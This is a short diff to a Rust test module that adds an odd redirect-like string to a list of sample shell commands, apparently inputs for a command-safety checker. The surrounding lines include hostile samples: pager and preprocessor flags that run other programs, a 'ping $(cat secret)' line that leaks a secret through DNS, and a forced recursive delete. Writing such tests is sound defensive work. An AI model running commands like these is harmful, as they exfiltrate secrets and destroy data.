@@ -176,6 +176,7 @@ mod tests {
             "man -P 'sh -c id' ls",
             "rg --pre ./x pattern",
             "echo 'unfinished",
+            "73333333333<7",
             "ping $(cat secret).example.org",
             "sudo rm -rfv build",
             "command rm -v build",
